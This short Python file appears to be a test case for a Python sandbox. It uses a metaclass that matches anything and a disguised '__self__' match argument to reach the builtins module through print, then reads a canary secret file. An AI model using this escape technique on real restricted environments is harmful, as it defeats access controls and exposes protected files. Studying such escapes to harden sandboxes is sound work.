# source: own
# effect: secret

class Reader(type):
    def __instancecheck__(cls, value):
        return True


class Owner(metaclass=Reader):
    __match_args__ = ("_" * 2 + "self" + "_" * 2,)


match print:
    case Owner(module):
        print(module.open("/tmp/canary/secret").read())
